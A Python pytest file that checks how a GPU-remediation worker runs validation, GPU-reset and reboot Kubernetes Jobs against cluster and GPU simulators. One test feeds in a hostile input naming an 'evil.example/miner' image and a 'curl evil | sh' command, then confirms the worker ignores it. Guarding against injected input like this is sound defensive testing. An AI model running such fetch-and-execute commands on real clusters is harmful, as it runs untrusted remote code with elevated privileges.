"""run_node_job against the cluster simulator, whose Job pods act on the GPU simulator."""

from __future__ import annotations

import dataclasses
import threading
import time
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any, Literal

import pytest
from temporalio.activity import ActivityCancellationDetails
from temporalio.exceptions import CancelledError
from temporalio.testing import ActivityEnvironment

from activities import jobs as jobs_module
from activities.job_templates import RESET_COMMAND, JobsSettings, JobTemplate
from activities.jobs import JobActivities
from tests.activities.conftest import Cluster, Heartbeats, ThreadedGpuSim, _cluster
from tests.polling import wait_for
from workflows.messages import NodeJobInput

Kind = Literal["validate", "gpu-reset", "reboot"]
NS = "gpu-remediate-jobs"
NODE = "gpu-node-04"  # runs no workload: all 8 GPUs free


def _tool(kind: Kind) -> JobTemplate:
    # The reset runs the shipped script: the simulated GPUs have persistence mode on, as
    # nvidia-persistenced keeps it, and refuse a reset that does not turn it off.
    command = ["/bin/sh", "-c", RESET_COMMAND] if kind == "gpu-reset" else ["true"]
    return JobTemplate(purpose=kind, image="registry.sim.local/tool", command=command,
                       deadline=timedelta(minutes=5), privileged=kind != "validate")


# The worker's own templates: what a Job runs is its configuration, never the input.
JOBS = JobsSettings(namespace=NS, templates={"validation": _tool("validate"),
                                           "gpu-reset": _tool("gpu-reset"),
                                           "reboot": _tool("reboot")})


def job(kind: Kind = "validate", *, node: str = NODE, name: str | None = None,
        gpu_index: str | None = None, dry_run: bool = False, gpus: int = 8,
        template: str = "") -> NodeJobInput:
    return NodeJobInput(
        node=node, kind=kind, name=name or f"{kind}-{node}-1", template=template,
        gpus=gpus, gpu_index=gpu_index, dry_run=dry_run)


@pytest.fixture
def acts(cluster_with_gpus: Cluster, monkeypatch: pytest.MonkeyPatch) -> JobActivities:
    monkeypatch.setattr(jobs_module, "POLL_SECONDS", 0.1)
    cluster_with_gpus.core.create_namespace({"metadata": {"name": NS}})
    return JobActivities(cluster_with_gpus.api, JOBS)


def test_validate_job_is_pinned_tolerates_all_and_takes_every_gpu(
        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment,
        heartbeats: Heartbeats) -> None:
    k = cluster_with_gpus
    result = env.run(acts.run_node_job, job())
    assert result.succeeded and result.job_name == f"validate-{NODE}-1"
    created = k.batch.read_namespaced_job(result.job_name, NS)
    spec = created.spec.template.spec
    assert spec.node_name == NODE
    assert [(t.operator, t.key, t.effect) for t in spec.tolerations] == [("Exists", None, None)]
    assert spec.containers[0].resources.limits == {"nvidia.com/gpu": "8"}
    assert created.spec.backoff_limit == 0
    assert created.metadata.labels["gpu-remediate.io/node"] == NODE
    assert heartbeats.seen, "it heartbeats while the Job runs"


def test_validate_job_runs_on_a_cordoned_and_tainted_node(
        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment) -> None:
    k = cluster_with_gpus
    k.core.patch_node(NODE, {"spec": {"unschedulable": True, "taints": [
        {"key": "gpu-remediate.io/remediation", "value": "true", "effect": "NoSchedule"}]}})
    assert env.run(acts.run_node_job, job()).succeeded


def test_second_call_with_the_same_name_adopts_the_existing_job(
        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment) -> None:
    k = cluster_with_gpus
    first = env.run(acts.run_node_job, job())
    again = env.run(acts.run_node_job, job())
    assert first.succeeded and again.succeeded
    assert len(k.batch.list_namespaced_job(NS).items) == 1
    creates = [w for w in k.writes("jobs") if w["verb"] == "create"]
    assert [w["code"] for w in creates] == [201, 409]


def test_validation_failing_on_the_gpu_simulator_reports_its_problems(
        cluster_with_gpus: Cluster, gpu_sim: ThreadedGpuSim, acts: JobActivities,
        env: ActivityEnvironment) -> None:
    gpu_sim.client.inject_fault(NODE, 3, "xid", 79, clears_on="never")
    problems = gpu_sim.client.health(NODE)["problems"]
    assert problems
    result = env.run(acts.run_node_job, job())
    assert not result.succeeded
    assert problems[0] in result.message


def test_validation_that_cannot_get_the_gpus_says_why(
        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment) -> None:
    """gpu-node-03 runs team-b/notebook holding 1 GPU: a Job pod pinned by nodeName that asks
    for all 8 is rejected by the kubelet; the reason must reach the workflow."""
    result = env.run(acts.run_node_job, job(node="gpu-node-03"))
    assert not result.succeeded
    assert "OutOfnvidia.com/gpu" in result.message


def operands_off(k: Cluster, node: str = NODE) -> None:
    """What the workflow does before a reset (activities/operands.py): the GPU Operator's
    operands hold the GPUs until their deploy labels turn them off."""
    k.core.patch_node(node, {"metadata": {"labels": {
        f"nvidia.com/gpu.deploy.{o}": "false"
        for o in ("device-plugin", "dcgm", "dcgm-exporter", "gpu-feature-discovery")}}})
    # The operator's validator holds no GPU: it stays.
    wait_for(lambda: not [p for p in k.pods_on(node)
                          if p.metadata.namespace == "gpu-operator"
                          and (p.metadata.labels or {}).get("app")
                          != "nvidia-operator-validator"], timeout=15)


def test_gpu_reset_fails_while_the_operands_hold_the_gpus(
        cluster_with_gpus: Cluster, gpu_sim: ThreadedGpuSim, acts: JobActivities,
        env: ActivityEnvironment) -> None:
    gpu_sim.client.inject_fault(NODE, 2, "ecc-dbe", 1)
    result = env.run(acts.run_node_job, job("gpu-reset", gpu_index="2"))
    assert not result.succeeded
    assert "being used by some other process" in result.message
    assert "nvidia-device-plugin-daemonset" in result.message
    assert not gpu_sim.client.health(NODE)["healthy"]


def test_gpu_reset_job_clears_reset_class_faults_in_the_gpu_simulator(
        cluster_with_gpus: Cluster, gpu_sim: ThreadedGpuSim, acts: JobActivities,
        env: ActivityEnvironment) -> None:
    operands_off(cluster_with_gpus)
    gpu_sim.client.inject_fault(NODE, 2, "ecc-dbe", 1)
    assert not gpu_sim.client.health(NODE)["healthy"]
    result = env.run(acts.run_node_job, job("gpu-reset", gpu_index="2"))
    assert result.succeeded, result.message
    assert gpu_sim.client.health(NODE)["healthy"]
    env_vars = cluster_with_gpus.batch.read_namespaced_job(result.job_name, NS) \
        .spec.template.spec.containers[0].env
    assert {"name": "GPU_INDEX", "value": "2"} in [{"name": e.name, "value": e.value}
                                                  for e in env_vars]


def test_gpu_reset_refused_by_the_gpu_reports_failure(
        cluster_with_gpus: Cluster, gpu_sim: ThreadedGpuSim, acts: JobActivities,
        env: ActivityEnvironment) -> None:
    operands_off(cluster_with_gpus)
    gpu_sim.client.inject_fault(NODE, 1, "xid", 79)  # XID 79: the GPU fell off the bus
    result = env.run(acts.run_node_job, job("gpu-reset", gpu_index="1"))
    assert not result.succeeded and "409" in result.message


def test_reboot_job_clears_reboot_class_faults_and_the_node_comes_back_with_a_new_boot(
        cluster_with_gpus: Cluster, gpu_sim: ThreadedGpuSim, acts: JobActivities,
        env: ActivityEnvironment) -> None:
    """Like a real node, the shutdown may kill the Job's own pod: the Job's result says
    nothing; the new boot ID and Ready do (the workflow checks them)."""
    boot = cluster_with_gpus.node(NODE).status.node_info.boot_id
    gpu_sim.client.inject_fault(NODE, 0, "xid", 79)
    result = env.run(acts.run_node_job, job("reboot"))
    assert result.job_name == f"reboot-{NODE}-1"
    wait_for(lambda: gpu_sim.client.health(NODE)["healthy"])

    def back() -> bool:
        node = cluster_with_gpus.node(NODE)
        ready = any(c.type == "Ready" and c.status == "True" for c in node.status.conditions)
        return ready and node.status.node_info.boot_id != boot

    wait_for(back)


def _looks(acts: JobActivities, inp: NodeJobInput, *, first: int = 1,
           limit: int = 200) -> tuple[int, Any]:
    """Look at a Job the way the workflow's retry policy does: attempt after attempt until
    one returns (a JobRunning in between is the wait)."""
    from temporalio.exceptions import ApplicationError, ApplicationErrorCategory

    env = ActivityEnvironment()
    for attempt in range(first, limit + 1):
        env.info = dataclasses.replace(env.info, attempt=attempt)
        try:
            return attempt, env.run(acts.poll_node_job, inp)
        except ApplicationError as err:
            assert err.type == "JobRunning" and not err.non_retryable, err
            assert err.category == ApplicationErrorCategory.BENIGN, "no error noise per look"
        time.sleep(0.05)
    raise AssertionError("the Job never finished")


def test_a_polled_job_answers_running_until_it_finishes(
        cluster_with_gpus: Cluster, acts: JobActivities) -> None:
    attempts, result = _looks(acts, job())
    assert attempts > 1, "the first look finds it running"
    assert result.succeeded and result.job_name == f"validate-{NODE}-1"
    created = cluster_with_gpus.batch.read_namespaced_job(result.job_name, NS)
    assert created.spec.template.spec.node_name == NODE
    creates = [w for w in cluster_with_gpus.writes("jobs") if w["verb"] == "create"]
    assert len(creates) == 1, "one Job, however many looks"


def test_a_polled_job_deleted_between_looks_is_created_again(
        cluster_with_gpus: Cluster, acts: JobActivities) -> None:
    from temporalio.exceptions import ApplicationError

    env = ActivityEnvironment()
    with pytest.raises(ApplicationError):
        env.run(acts.poll_node_job, job())
    cluster_with_gpus.batch.delete_namespaced_job(f"validate-{NODE}-1", NS,
                                                  propagation_policy="Background")
    # Gone with its pod (which holds the GPUs through its grace period).
    wait_for(lambda: not cluster_with_gpus.batch.list_namespaced_job(NS).items
             and not cluster_with_gpus.core.list_namespaced_pod(NS).items)
    # A later attempt (the create was the first's): it finds no Job and creates it again.
    _, result = _looks(acts, job(), first=2)
    assert result.succeeded
    creates = [w for w in cluster_with_gpus.writes("jobs") if w["verb"] == "create"]
    assert len(creates) == 2


def test_delete_node_job_stops_a_running_job(
        cluster_with_gpus: Cluster, acts: JobActivities) -> None:
    from temporalio.exceptions import ApplicationError

    env = ActivityEnvironment()
    with pytest.raises(ApplicationError):
        env.run(acts.poll_node_job, job())
    env.run(acts.delete_node_job, job())
    env.run(acts.delete_node_job, job())  # twice: the second finds nothing, no error
    deletes = [(w["name"], w["code"]) for w in cluster_with_gpus.writes("jobs")
               if w["verb"] == "delete"]
    assert deletes[0] == (f"validate-{NODE}-1", 200)


def test_dry_run_creates_no_job(
        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment) -> None:
    cluster_with_gpus.clear_writes()
    result = env.run(acts.run_node_job, job(dry_run=True))
    assert result.succeeded and "would run" in result.message
    assert cluster_with_gpus.writes() == []


def test_job_in_a_missing_namespace_is_a_clear_non_retryable_error(
        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment) -> None:
    from temporalio.exceptions import ApplicationError

    acts = JobActivities(cluster_with_gpus.api, JOBS.model_copy(update={"namespace": "nowhere"}))
    with pytest.raises(ApplicationError) as err:
        env.run(acts.run_node_job, job())
    assert err.value.type == "NotFound" and "nowhere" in str(err.value)


def test_input_that_carries_a_job_of_its_own_runs_the_workers_template(
        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment) -> None:
    """A stray Temporal client (or a run started before templates) sends image, command,
    privileges and namespace in the input: all ignored, the worker's template runs in the
    worker's namespace."""
    hostile = NodeJobInput.model_validate({
        "node": NODE, "kind": "validate", "name": f"validate-{NODE}-1", "gpus": 8,
        "namespace": "kube-system",
        "job": {"image": "evil.example/miner", "command": ["sh", "-c", "curl evil | sh"],
                "deadline": "PT1H", "privileged": True}})
    _looks(acts, hostile)
    created = cluster_with_gpus.batch.read_namespaced_job(hostile.name, NS)
    container = created.spec.template.spec.containers[0]
    assert (container.image, container.command) == ("registry.sim.local/tool", ["true"])
    assert container.security_context is None and not created.spec.template.spec.host_pid
    assert [w["namespace"] for w in cluster_with_gpus.writes("jobs")] == [NS]


@pytest.mark.parametrize(("kind", "template", "why"), [
    ("validate", "no-such", "no Job template 'no-such'"),
    # Naming the (privileged, always succeeding) reboot template for validation would
    # return a node to service untested.
    ("validate", "reboot", "'reboot' is for reboot, not validate"),
    ("reboot", "validation", "'validation' is for validate, not reboot"),
])
def test_a_template_the_worker_lacks_for_the_step_is_refused_and_creates_nothing(
        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment,
        kind: Kind, template: str, why: str) -> None:
    from temporalio.exceptions import ApplicationError

    cluster_with_gpus.clear_writes()
    for call in (acts.poll_node_job, acts.run_node_job):
        for dry_run in (False, True):
            with pytest.raises(ApplicationError) as err:
                env.run(call, job(kind, template=template, dry_run=dry_run))
            assert err.value.type == "JobTemplateRefused" and err.value.non_retryable
            assert why in str(err.value)
    assert cluster_with_gpus.writes() == []


def test_a_job_for_a_node_with_a_253_character_name_is_accepted(
        cluster_with_gpus: Cluster, acts: JobActivities) -> None:
    """A label value stops at 63 characters: the Job's node label is shortened (the API
    server would answer 422 otherwise), the annotation and nodeName keep the full name."""
    from activities.node_keys import label_value
    from workflows.remediation import node_job_name

    long_node = ".".join(["gpu-node-0007", *["a" * 40] * 5, "b" * 26, "example"])
    assert len(long_node) == 253
    run_id = "01a23858-d59a-7c38-98dd-25ad5521cb6d"
    inp = job(node=long_node, name=node_job_name("validate", long_node, run_id, 1))
    # A Node of that name, Ready (no node Job is created on a node that is not).
    cluster_with_gpus.core.create_node({"metadata": {"name": long_node}})
    cluster_with_gpus.core.patch_node_status(long_node, {"status": {"conditions": [
        {"type": "Ready", "status": "True", "reason": "KubeletReady",
         "lastHeartbeatTime": "2026-01-01T00:00:00Z",
         "lastTransitionTime": "2026-01-01T00:00:00Z"}]}})
    ActivityEnvironment().run(acts._ensure, inp)
    created = cluster_with_gpus.batch.read_namespaced_job(inp.name, NS)
    assert created.metadata.labels["gpu-remediate.io/node"] == label_value(long_node)
    assert created.metadata.annotations["gpu-remediate.io/node"] == long_node
    assert created.spec.template.spec.node_name == long_node
    assert [w["code"] for w in cluster_with_gpus.writes("jobs")] == [201]


@pytest.fixture
def slow_jobs(tmp_path: Path, gpu_sim: ThreadedGpuSim,
              monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Cluster, JobActivities]]:
    """Jobs that run for a minute, long enough to be aborted."""
    monkeypatch.setattr(jobs_module, "POLL_SECONDS", 0.1)
    for k in _cluster(tmp_path, gpu_sim_url=gpu_sim.url, job_seconds=60):
        k.core.create_namespace({"metadata": {"name": NS}})
        _standalone_ready(k)  # the shipped validation uses the node's host engine
        yield k, JobActivities(k.api)


def _cancel_while_running(k: Cluster, acts: JobActivities,
                          details: ActivityCancellationDetails) -> list[Any]:
    """Start a validation Job, cancel the activity once its pod runs; the Jobs left."""
    env = ActivityEnvironment()
    outcome: list[BaseException] = []

    def run() -> None:
        try:
            env.run(acts.run_node_job, job())
        except BaseException as err:  # the test inspects it
            outcome.append(err)
    thread = threading.Thread(target=run)
    thread.start()
    wait_for(lambda: any(p.status.phase == "Running" for p in k.core.list_namespaced_pod(
        NS, label_selector=f"job-name=validate-{NODE}-1").items))
    env.cancel(details)
    thread.join(timeout=10)
    assert not thread.is_alive() and len(outcome) == 1
    assert isinstance(outcome[0], CancelledError), outcome
    return list(k.batch.list_namespaced_job(NS).items)


def test_an_aborted_remediation_deletes_its_running_job(
        slow_jobs: tuple[Cluster, JobActivities]) -> None:
    """An abort must not leave a validation Job holding every GPU of a node back in
    service: the Job goes, and its pod with it."""
    k, acts = slow_jobs
    left = _cancel_while_running(k, acts, ActivityCancellationDetails(cancel_requested=True))
    assert [j.metadata.deletion_timestamp is not None for j in left] in ([], [True])
    deletes = [w for w in k.writes("jobs") if w["verb"] == "delete"]
    assert [(w["name"], w["code"]) for w in deletes] == [(f"validate-{NODE}-1", 200)]
    # The garbage collector takes the pod with it: gone, or terminating (grace period).
    wait_for(lambda: all(p.metadata.deletion_timestamp for p in k.core.list_namespaced_pod(
        NS, label_selector=f"job-name=validate-{NODE}-1").items))


@pytest.mark.parametrize("details", [
    ActivityCancellationDetails(worker_shutdown=True),
    ActivityCancellationDetails(timed_out=True),
    ActivityCancellationDetails(paused=True),
], ids=["worker-shutdown", "heartbeat-timeout", "paused"])
def test_a_job_outlives_an_activity_that_will_be_retried(
        slow_jobs: tuple[Cluster, JobActivities], details: ActivityCancellationDetails) -> None:
    """A worker going away, a missed heartbeat or a pause is not an abort: the retry adopts
    the Job by name, so it must keep running."""
    k, acts = slow_jobs
    left = _cancel_while_running(k, acts, details)
    assert [(j.metadata.name, j.metadata.deletion_timestamp) for j in left] == [
        (f"validate-{NODE}-1", None)]
    assert not [w for w in k.writes("jobs") if w["verb"] == "delete"]


def test_a_job_of_another_run_with_the_same_name_is_never_adopted(
        cluster_with_gpus: Cluster, acts: JobActivities) -> None:
    """Its result says nothing about this run's fault: the step fails with a reason an
    operator can act on, and the other run's Job is left alone."""
    from temporalio.exceptions import ApplicationError

    first, second = ActivityEnvironment(), ActivityEnvironment()
    first.info = dataclasses.replace(first.info, workflow_run_id="run-a")
    second.info = dataclasses.replace(second.info, workflow_run_id="run-b")
    assert first.run(acts.run_node_job, job()).succeeded
    created = cluster_with_gpus.batch.read_namespaced_job(f"validate-{NODE}-1", NS)
    assert created.metadata.annotations["gpu-remediate.io/run-id"] == "run-a"
    with pytest.raises(ApplicationError) as err:
        second.run(acts.run_node_job, job())
    assert err.value.type == "JobConflict" and err.value.non_retryable
    assert "belongs to run run-a" in str(err.value)
    assert len(cluster_with_gpus.batch.list_namespaced_job(NS).items) == 1


@pytest.fixture
def shipped(cluster_with_gpus: Cluster, monkeypatch: pytest.MonkeyPatch) -> JobActivities:
    """The worker with the shipped templates: the validation runs dcgmi with its own host
    engine and its JSON is the evidence."""
    monkeypatch.setattr(jobs_module, "POLL_SECONDS", 0.1)
    cluster_with_gpus.core.create_namespace({"metadata": {"name": NS}})
    _standalone_ready(cluster_with_gpus)
    return JobActivities(cluster_with_gpus.api, JobsSettings(namespace=NS))


def _standalone_ready(k: Cluster) -> None:
    """The node's standalone host engine (the GPU Operator's dcgm operand) up and Ready."""
    wait_for(lambda: [p for p in k.pods_on(NODE)
                      if (p.metadata.labels or {}).get("app") == "nvidia-dcgm"
                      and any(c.type == "Ready" and c.status == "True"
                              for c in p.status.conditions or [])], timeout=15)


def test_shipped_validation_keeps_dcgmi_evidence_of_every_gpu(
        shipped: JobActivities, env: ActivityEnvironment) -> None:
    result = env.run(shipped.run_node_job, job())
    assert result.succeeded, result.message
    assert result.evidence.startswith("dcgmi diag: all ") and "GPUs 0-7" in result.evidence
    assert result.evidence in result.message


def test_shipped_validation_names_the_failing_test_and_gpu(
        gpu_sim: ThreadedGpuSim, shipped: JobActivities, env: ActivityEnvironment) -> None:
    gpu_sim.client.inject_fault(NODE, 3, "ecc-dbe", 1)
    result = env.run(shipped.run_node_job, job())
    assert not result.succeeded
    assert "on GPU 3" in result.evidence and "1 failed" in result.evidence
    assert result.evidence in result.message


def test_validation_without_a_host_engine_fails_like_real_dcgmi(
        cluster_with_gpus: Cluster, env: ActivityEnvironment,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The old default (dcgmi with the image's entrypoint overridden) has no nv-hostengine
    to talk to: it fails, and its output is no evidence."""
    monkeypatch.setattr(jobs_module, "POLL_SECONDS", 0.1)
    cluster_with_gpus.core.create_namespace({"metadata": {"name": NS}})
    bare = JobTemplate(purpose="validate", image="registry.sim.local/dcgm",
                       command=["dcgmi", "diag", "-r", "2", "-j"],
                       deadline=timedelta(minutes=5), run_as_user=1000, output="dcgmi-json")
    acts = JobActivities(cluster_with_gpus.api, JobsSettings(
        namespace=NS, templates={"validation": bare}))
    _standalone_ready(cluster_with_gpus)
    result = env.run(acts.run_node_job, job())
    assert not result.succeeded and result.evidence == ""
    assert "Unable to connect to host engine" in result.message


# -- Kubernetes >= 1.31, persistence mode, nodes that cannot run a Job ------------------


def _job_object(*conditions: tuple[str, str]) -> Any:
    from kubernetes import client

    return client.V1Job(status=client.V1JobStatus(conditions=[
        client.V1JobCondition(type=t, status="True", reason=reason, message=f"{reason} msg")
        for t, reason in conditions]))


def test_the_interim_condition_is_the_verdict(acts: JobActivities) -> None:
    """A pod on a node that lost power never terminates, so Failed/Complete may never come:
    FailureTarget and SuccessCriteriaMet decide."""
    failed = acts._result(job("reboot"), _job_object(("FailureTarget", "DeadlineExceeded")))
    assert failed is not None and not failed.succeeded
    assert failed.message.startswith("DeadlineExceeded: DeadlineExceeded msg")
    done = acts._result(job("reboot"), _job_object(("SuccessCriteriaMet", "CompletionsReached")))
    assert done is not None and done.succeeded
    assert acts._result(job("reboot"), _job_object()) is None


def test_reset_with_persistence_mode_on_succeeds_and_restores_it(
        cluster_with_gpus: Cluster, gpu_sim: ThreadedGpuSim, acts: JobActivities,
        env: ActivityEnvironment) -> None:
    operands_off(cluster_with_gpus)
    gpu_sim.client.inject_fault(NODE, 4, "ecc-dbe", 1)
    gpu_sim.client.set_persistence(NODE, False, 6)  # off before: stays off
    uuid = next(g["uuid"] for g in gpu_sim.client.get_node(NODE)["gpus"] if g["index"] == 4)
    inp = job("gpu-reset", gpu_index="4").model_copy(update={"gpu_uuids": [uuid]})
    result = env.run(acts.run_node_job, inp)
    assert result.succeeded, result.message
    assert gpu_sim.client.health(NODE)["healthy"]
    modes = [g["persistence_mode"] for g in gpu_sim.client.get_node(NODE)["gpus"]]
    assert modes == [True] * 6 + [False, True]


def test_a_refused_reset_names_the_process_holding_the_gpu(
        cluster_with_gpus: Cluster, gpu_sim: ThreadedGpuSim, acts: JobActivities,
        env: ActivityEnvironment) -> None:
    gpu_sim.client.inject_fault(NODE, 2, "ecc-dbe", 1)
    result = env.run(acts.run_node_job, job("gpu-reset", gpu_index="2"))
    assert not result.succeeded
    # Parsed from nvidia-smi --query-compute-apps: the GPU, the pid and the process.
    assert "held by pid " in result.message and "on GPU-" in result.message, result.message


def test_no_job_is_created_on_a_not_ready_node(
        cluster_with_gpus: Cluster, acts: JobActivities) -> None:
    import httpx
    from temporalio.exceptions import ApplicationError

    httpx.post(f"{cluster_with_gpus.sim.url}/sim/v1/nodes/{NODE}/wedge").raise_for_status()
    wait_for(lambda: any(c.type == "Ready" and c.status != "True"
                         for c in cluster_with_gpus.node(NODE).status.conditions), timeout=15)
    env = ActivityEnvironment()
    for kind in ("validate", "gpu-reset", "reboot"):
        with pytest.raises(ApplicationError) as err:
            env.run(acts.poll_node_job, job(kind))
        assert err.value.type == "NodeNotReady" and not err.value.non_retryable
        assert NODE in str(err.value) and "Ready=Unknown" in str(err.value)
    assert not cluster_with_gpus.batch.list_namespaced_job(NS).items


def test_a_job_whose_image_cannot_be_pulled_never_started_and_is_deleted(
        cluster_with_gpus: Cluster, monkeypatch: pytest.MonkeyPatch) -> None:
    from temporalio.exceptions import ApplicationError

    monkeypatch.setattr(jobs_module, "POLL_SECONDS", 0.1)
    cluster_with_gpus.core.create_namespace({"metadata": {"name": NS}})
    offline = JobTemplate(purpose="reboot", image="unreachable.invalid/busybox:1.37",
                          command=["true"], deadline=timedelta(minutes=5), privileged=True)
    acts = JobActivities(cluster_with_gpus.api, JobsSettings(
        namespace=NS, templates={"reboot": offline}))
    env = ActivityEnvironment()

    def look(attempt: int) -> ApplicationError | None:
        env.info = dataclasses.replace(env.info, attempt=attempt)
        try:
            env.run(acts.poll_node_job, job("reboot"))
        except ApplicationError as e:
            return None if e.type == "JobRunning" else e
        raise AssertionError("a Job that cannot pull its image finished")

    attempts = iter(range(1, 1000))
    failure = wait_for(lambda: look(next(attempts)), timeout=15)
    with pytest.raises(ApplicationError) as err:
        raise failure
    assert err.value.type == "JobNotStarted" and err.value.non_retryable
    assert "ImagePullBackOff" in str(err.value) and "unreachable.invalid" in str(err.value)
    wait_for(lambda: not cluster_with_gpus.batch.list_namespaced_job(NS).items)


# -- one DCGM host engine per node --------------------------------------------------------


def _standalone_dcgm_off(k: Cluster) -> None:
    """The node without the GPU Operator's standalone dcgm operand: dcgm-exporter embeds the
    node's only host engine."""
    k.core.patch_node(NODE, {"metadata": {"labels": {"nvidia.com/gpu.deploy.dcgm": "false"}}})
    wait_for(lambda: not [p for p in k.pods_on(NODE)
                          if (p.metadata.labels or {}).get("app") == "nvidia-dcgm"], timeout=15)


def _exporter(k: Cluster, value: str) -> None:
    k.core.patch_node(NODE, {"metadata": {"labels": {
        "nvidia.com/gpu.deploy.dcgm-exporter": value}}})


def test_validation_uses_the_nodes_standalone_host_engine(
        cluster_with_gpus: Cluster, shipped: JobActivities, env: ActivityEnvironment) -> None:
    planned = env.run(shipped.run_node_job, job(dry_run=True))
    assert "the node's standalone one, gpu-operator/nvidia-dcgm-" in planned.message
    result = env.run(shipped.run_node_job, job())
    assert result.succeeded, result.message
    container = cluster_with_gpus.batch.read_namespaced_job(result.job_name, NS) \
        .spec.template.spec.containers[0]
    env_vars = {e.name: e for e in container.env}
    assert env_vars["DCGM_HOST_ENGINE"].value == "standalone"
    assert env_vars["NODE_IP"].value_from.field_ref.field_path == "status.hostIP"


def test_no_validation_job_beside_dcgm_exporters_embedded_engine(
        cluster_with_gpus: Cluster, shipped: JobActivities) -> None:
    from temporalio.exceptions import ApplicationError

    _standalone_dcgm_off(cluster_with_gpus)
    with pytest.raises(ApplicationError) as err:
        ActivityEnvironment().run(shipped.poll_node_job, job())
    assert err.value.type == "HostEngineBusy" and not err.value.non_retryable
    assert "gpu-operator/nvidia-dcgm-exporter-" in str(err.value)
    assert not cluster_with_gpus.batch.list_namespaced_job(NS).items
    # The exporter paused through its deploy label: the Job runs an engine of its own.
    _exporter(cluster_with_gpus, "false")
    wait_for(lambda: not [p for p in cluster_with_gpus.pods_on(NODE)
                          if (p.metadata.labels or {}).get("app") == "nvidia-dcgm-exporter"],
             timeout=15)
    _, result = _looks(shipped, job(), first=2)
    assert result.succeeded, result.message
    env_vars = {e.name: e.value for e in cluster_with_gpus.batch.read_namespaced_job(
        result.job_name, NS).spec.template.spec.containers[0].env}
    assert env_vars["DCGM_HOST_ENGINE"] == "embedded"


def test_a_second_host_engine_fails_as_dcgm_does(
        cluster_with_gpus: Cluster, env: ActivityEnvironment,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The simulator runs one host engine per node: a Job that starts its own beside the
    exporter's embedded one (the old validation command) fails, its diagnostic never run."""
    monkeypatch.setattr(jobs_module, "POLL_SECONDS", 0.1)
    cluster_with_gpus.core.create_namespace({"metadata": {"name": NS}})
    _standalone_dcgm_off(cluster_with_gpus)
    old = JobTemplate(purpose="validate", image="registry.sim.local/dcgm", command=[
        "/bin/sh", "-c", "nv-hostengine --pid /tmp/p && exec dcgmi diag -r 2 -j"],
        deadline=timedelta(minutes=5), output="exit-code")
    acts = JobActivities(cluster_with_gpus.api, JobsSettings(
        namespace=NS, templates={"validation": old}))
    result = env.run(acts.run_node_job, job())
    assert not result.succeeded
    assert "a DCGM host engine already manages the GPUs" in result.message
    assert "nvidia-dcgm-exporter" in result.message


def test_host_engine_choice_reads_what_runs_on_the_node() -> None:
    from activities.jobs import host_engine_choice

    def pod(name: str, app: str, *, host_port: int | None = None, ready: bool = True,
            deleting: bool = False, phase: str = "Running") -> dict[str, Any]:
        ports = [{"containerPort": 5555, "hostPort": host_port}] if host_port else []
        meta: dict[str, Any] = {"name": name, "namespace": "gpu-operator",
                                "labels": {"app": app}}
        if deleting:
            meta["deletionTimestamp"] = "2026-01-01T00:00:00Z"
        return {"metadata": meta, "spec": {"containers": [{"name": "c", "ports": ports}]},
                "status": {"phase": phase, "conditions": [
                    {"type": "Ready", "status": "True" if ready else "False"}]}}

    exporter = pod("exp", "nvidia-dcgm-exporter")
    assert host_engine_choice([exporter, pod("dcgm", "nvidia-dcgm", host_port=5555)]) == (
        "standalone", "gpu-operator/dcgm")
    assert host_engine_choice([exporter]) == ("busy", "gpu-operator/exp")
    # Not Ready, or on its way out: not an engine to use; the exporter still embeds one.
    assert host_engine_choice([exporter, pod("dcgm", "x", host_port=5555, ready=False)])[0] \
        == "busy"
    # A standalone engine still starting (after a reboot) is one too: wait, never a second.
    assert host_engine_choice([pod("dcgm", "x", host_port=5555, ready=False)]) == (
        "busy", "gpu-operator/dcgm")
    assert host_engine_choice([pod("exp", "nvidia-dcgm-exporter", deleting=True)])[0] == "busy"
    assert host_engine_choice([pod("exp", "nvidia-dcgm-exporter", phase="Failed")]) == (
        "embedded", "")
    assert host_engine_choice([]) == ("embedded", "")
